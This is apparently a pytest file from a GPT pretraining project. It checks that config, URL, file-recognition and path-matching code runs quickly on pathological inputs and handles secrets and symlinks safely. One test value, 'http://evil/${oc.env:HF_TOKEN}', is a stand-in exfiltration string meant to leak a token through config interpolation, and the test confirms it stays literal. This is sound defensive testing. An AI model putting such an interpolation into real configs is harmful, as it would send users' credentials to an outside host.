"""Long texts, patterns of files and lists that a stranger writes in a second: reading them must not take minutes."""

import os
import shlex
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import optuna
import pytest
from hydra.core.override_parser.overrides_parser import OverridesParser
from omegaconf import OmegaConf
from optuna.distributions import FloatDistribution
from optuna.trial import TrialState, create_trial

from gpt_pretrain.checkpoints.checkpoint_file import write_checkpoint
from gpt_pretrain.commands.command_line.hydra_arguments import quote_arguments
from gpt_pretrain.config.checkpoint_settings import read_stored_settings
from gpt_pretrain.config.free_text import plain_value
from gpt_pretrain.config.interpolation import escape_interpolation, unescape_interpolation
from gpt_pretrain.config.override_messages import describe_override, explain_locations
from gpt_pretrain.config.overrides import expand_amounts, quote_value
from gpt_pretrain.config.schema import TrainSettings
from gpt_pretrain.config.secrets import metadata_without_secrets, override_without_secrets
from gpt_pretrain.config.setting_names import nearest, nearest_settings
from gpt_pretrain.config.stored_locations import is_harmless_location, stays_inside
from gpt_pretrain.errors import UserError
from gpt_pretrain.sweeps import search as search_module
from gpt_pretrain.sweeps.journal import open_journal
from gpt_pretrain.sweeps.search import NumberRange, Search
from gpt_pretrain.system.recognition.file_kinds import HEAD, MAILBOX
from gpt_pretrain.system.recognition.file_recognition import recognize
from gpt_pretrain.system.urls import hide_secrets, is_cut, secret_parts, without_secrets
from gpt_pretrain.texts import finding
from gpt_pretrain.texts.finding import match_files
from gpt_pretrain.training.distributed.fsdp import remove_unused_shards
from tests.security.mutations import REPEATED

LENGTH = 100_000


@contextmanager
def at_most(seconds: float) -> Iterator[None]:
    """Check that a block takes no more time of the processor."""
    start = time.process_time()
    yield
    assert time.process_time() - start < seconds


@pytest.mark.parametrize("unit", [*REPEATED, "${", "\\'", "1e", "1.", "?a=", "data.remote.options"])
def test_a_long_row_of_characters_is_read_in_no_time(unit: str) -> None:
    row = unit * (LENGTH // len(unit))
    with at_most(3):
        for text in (row, f"{row}x", f"http://{row}]/@", f"http://[{row}/@", f"http://a?{row}#{row}", f"a/{row}@"):
            assert unescape_interpolation(escape_interpolation(text)) == text
            quote_value(text)
            without_secrets(text), is_cut(f"{text}***"), secret_parts(text), hide_secrets(text)
            override_without_secrets(f"data.path={text}"), expand_amounts(f"trainer.max_tokens={text}")
            metadata_without_secrets({"command": text, "overrides": [text], "data": {"path": text}})


@pytest.mark.parametrize("quote", "'\"")
def test_a_row_of_backslashes_in_quotation_marks_is_read_in_no_time(quote: str) -> None:
    with at_most(0.5):
        assert plain_value(f"{quote}{chr(92) * LENGTH}x{quote}") == chr(92) * LENGTH + "x"
        assert plain_value(f"{quote}{chr(92) * LENGTH}{quote}") == chr(92) * (LENGTH // 2)


def test_a_long_name_is_compared_with_no_setting() -> None:
    with at_most(1):
        assert nearest_settings("optimizer." + "learning_rate" * 10_000, TrainSettings) == []
        assert nearest("learning_rate" * 10_000, ["lr", "eps"]) == []


@pytest.mark.parametrize(
    "head",
    [
        b"Name: Ada\r\n" * 60 + b"and so on",
        b"Name: Ada\r\n  of many lines\r\n" * 60 + b"and so on",
        b"From a " + b"00:00" * 13_000,
        b"From a 00:00\n" + b"Name: Ada\r\n" * 60,
        b"%PDF-1.4" + b"\n" * 65_000,
        b"<!--" * 16_000,
        b"<a " + b"xmlns:" * 10_000,
        b"version https://git-lfs.github.com/spec/v1\n" + b"\n" * 65_000,
    ],
    ids=["lines", "folded lines", "times", "mail", "PDF", "comments", "XML", "LFS"],
)
def test_the_beginning_of_a_file_is_recognized_in_no_time(head: bytes) -> None:
    with at_most(0.5):
        for name in ("a.txt", "a.xml", "a"):
            recognize(name, head[:HEAD])


def test_many_beginnings_with_all_kinds_of_letters_are_recognized_in_no_time() -> None:
    head = "".join(map(chr, [*range(0x1200, 0x5200), *range(0xAC00, 0xD7A3)])).encode("utf-16-le")[:HEAD]
    with at_most(0.6):
        for _ in range(20):
            recognize("a.txt", head)


def test_a_mailbox_with_line_ends_of_windows_is_recognized() -> None:
    for head in (b"Subject: x\r\n y\r\nMessage-ID: <a>\r\n\r\nText", b"From a Mon 10:00:00 2026\r\nTo: b\r\n\r\nText"):
        assert recognize("a.txt", head) is MAILBOX or recognize("a.txt", head).warning == MAILBOX.warning
    assert recognize("a.txt", b"ROMEO: Ay me.\r\nJULIET: O.\r\n").warning == ""


@pytest.mark.parametrize(
    ("url", "cut"),
    [
        ("http://a:b:c/@d", "http://***@d"),
        ("http://a:80/@d", "http://a:80/@d"),
        ("http://[::1]:80/@d", "http://[::1]:80/@d"),
        ("http://[::1]/@d", "http://[::1]/@d"),
        ("http://a::/@d", "http://***@d"),
        ("http://a:p]:q/w@d", "http://***@d"),
    ],
)
def test_a_password_with_a_slash_is_told_from_a_port(url: str, cut: str) -> None:
    assert without_secrets(url) == cut


def test_backslashes_before_a_last_line_end_stay() -> None:
    text = "a\\\n"
    assert OverridesParser.create().parse_override(f"prompt={quote_value(text)}").value() == text


@pytest.mark.parametrize(
    "config",
    [{"start_context": "${" * 50_000}, {"callbacks": {"grid": {"prompts": ["x" * 9000] * 10}}}, {"x": {"y" * 10_001: 1}}],
)
def test_long_texts_need_a_signature(config: dict[str, Any]) -> None:
    with at_most(0.5), pytest.raises(UserError, match="text of more than 10,000 characters"):
        read_stored_settings(config, own=False, origin="a file")
    with at_most(20):
        read_stored_settings({"start_context": "x" * 200_000}, own=True, origin="a file")


@pytest.mark.parametrize(
    "pattern", ["**/" * 12 + "x", "loop*/" * 12 + "x", "**", "a/**", "*/../" * 12 + "x", "[l]oop*/" * 12 + "*"]
)
def test_a_pattern_for_folders_is_asked_about(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pattern: str) -> None:
    monkeypatch.chdir(tmp_path)
    for number in range(10):
        (tmp_path / f"loop{number}").symlink_to(".")
    with at_most(2):
        assert not stays_inside(pattern, folder=tmp_path)
        assert not stays_inside(f"{tmp_path}/{pattern}", folder=tmp_path)


def test_many_files_in_deep_folders_are_looked_at_in_no_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    deep = Path("run", *["d"] * 90)
    deep.mkdir(parents=True)
    for number in range(2000):
        (deep / f"{number}.txt").touch()
    with at_most(4):
        assert is_harmless_location("data.sources", [{"path": "run", "weight": 1.0}] * 20, folder=tmp_path / "run")
        assert not stays_inside(str(Path("run", *["x"] * 1900)), folder=tmp_path / "run")


def test_the_files_in_deep_folders_are_found_in_no_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "texts"
    folder.mkdir()
    monkeypatch.chdir(folder)
    for _ in range(400):
        Path("d").mkdir()
        os.chdir("d")
    for number in range(2000):
        Path(f"{number}.txt").touch()
    with at_most(2):
        assert len(match_files(str(folder))[0]) == 2000
    monkeypatch.setattr(finding, "files_below", _too_deep)
    with pytest.raises(UserError, match=r"The folders in .* are nested too deeply\. Name a folder"):
        match_files(str(folder))


def _too_deep(folder: Path) -> Iterator[Path]:
    """Fail as `os.walk` does in folders within a thousand folders before Python 3.12."""
    raise RecursionError(folder)


def test_a_link_in_a_folder_is_asked_about(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "run" / "texts").mkdir(parents=True)
    (tmp_path / "run" / "a.txt").touch()
    (tmp_path / "other").symlink_to("run")
    monkeypatch.chdir(tmp_path / "other")
    assert stays_inside("a.txt", folder=None) and stays_inside(str(tmp_path / "other" / "a.txt"), folder=tmp_path / "other")
    assert stays_inside("texts", folder=None) and stays_inside("*", folder=None)
    (tmp_path / "run" / "texts" / "b.txt").symlink_to("../a.txt")
    assert not stays_inside("texts", folder=None) and not stays_inside("*", folder=None)
    assert not stays_inside("texts/b.txt", folder=None) and not stays_inside("texts/*", folder=None)
    assert not stays_inside(str(tmp_path / "run" / "texts" / ".." / "a.txt"), folder=tmp_path / "run")


def test_a_pattern_for_files_and_a_folder_named_like_one_are_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "texts[1]").mkdir()
    (tmp_path / "texts[1]" / "a.txt").touch()
    (tmp_path / "a.txt").touch()
    assert stays_inside("*.txt", folder=None) and stays_inside("texts[1]/a.txt", folder=None)


def test_a_mixture_of_many_places_is_asked_about(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.txt").touch()
    source = {"path": "a.txt", "weight": 1.0}
    assert is_harmless_location("data.sources", [source] * 20, folder=tmp_path)
    assert not is_harmless_location("data.sources", [source] * 21, folder=tmp_path)


def test_unfinished_trials_of_a_journal_are_compared_in_no_time_and_limited(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    distributions = {"optimizer.lr": FloatDistribution(0.0, 1.0)}
    with open_journal(tmp_path) as storage:
        study = optuna.create_study(storage=storage, study_name="sweep")
    for state, count in ((TrialState.FAIL, 3000), (TrialState.COMPLETE, 3000), (TrialState.RUNNING, 2)):
        study.add_trials(
            create_trial(
                state=state,
                value=1.0 if state == TrialState.COMPLETE else None,
                params={"optimizer.lr": number / 3000},
                distributions=dict(distributions),
            )
            for number in range(count)
        )

    def open_search() -> Search:
        space = {"optimizer.lr": NumberRange(0.0, 1.0)}
        return Search.open(tmp_path, space, sampler="random", seed=1, pruning=False, pruning_after=1)  # type: ignore[arg-type]

    monkeypatch.setattr(search_module, "MAX_UNFINISHED", 1)
    with pytest.raises(UserError, match="2 of its trials have not ended"):
        open_search()
    monkeypatch.setattr(search_module, "MAX_UNFINISHED", 5000)
    with at_most(4):
        found = open_search()
    assert found.retried == 3002
    assert not found.study.get_trials(states=(TrialState.WAITING, TrialState.RUNNING)), "their values have completed trials"


PLACE = "http://evil/${oc.env:HF_TOKEN}"


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("logger.mlflow.tracking_uri", PLACE),
        ("data.path", PLACE),
        ("data.sources", [{"path": "a'${oc.env:X}", "weight": 1.0}]),
        ("callbacks.grid.prompts", ["a ${oc.env:X}", "é\\"]),
    ],
)
@pytest.mark.parametrize("sweep", [False, True])
def test_suggested_words_resolve_nothing(key: str, value: Any, sweep: bool) -> None:
    words = shlex.split(describe_override(key, value))
    typed = OverridesParser.create().parse_override(quote_arguments([words[-1]], sweep=sweep)[-1])
    assert not typed.is_sweep_override()
    assert OmegaConf.to_container(OmegaConf.create({"x": typed.value()}), resolve=True) == {"x": value}


def test_a_place_is_shown_plain_before_the_words_to_copy() -> None:
    message = explain_locations([describe_override("data.path", "~/it's a text.txt")], origin="a file")
    assert message.startswith("data.path=~/it's a text.txt comes from a file, ")
    assert message.endswith("add: " + shlex.quote("data.path=~/it's a text.txt"))


@pytest.mark.parametrize("key", ["data.path", "data.url", "init_from"])
def test_a_place_with_a_variable_is_literal_in_a_sweep_too(key: str) -> None:
    for value in (PLACE, "a/${oc.env:X,b}"):
        (override,) = OverridesParser.create().parse_overrides(quote_arguments([f"{key}={value}"], sweep=True))
        assert OmegaConf.create({"x": override.value()})["x"] == value
    for several in (f"{key}=choice(a,${{x}})", f"{key}=a,b"):
        assert quote_arguments([several], sweep=True) == [several]
    assert quote_arguments([f"{key}=a,b${{x}}"], sweep=True) == [f"{key}=a,'b\\${{x}}'"]


@pytest.mark.parametrize("shards", [[1], {"folder": ["x"]}, {"folder": 1}, "x", None])
def test_shards_stay_if_a_checkpoint_names_them_wrongly(tmp_path: Path, shards: Any) -> None:
    (tmp_path / "shards-1-aaaaaa").mkdir()
    content = {"shards": shards, "state_dict": {}, "architecture": {}, "tokenizer": "byte"}
    write_checkpoint(content, tmp_path / "last.ckpt")
    remove_unused_shards(tmp_path)
    assert (tmp_path / "shards-1-aaaaaa").is_dir()
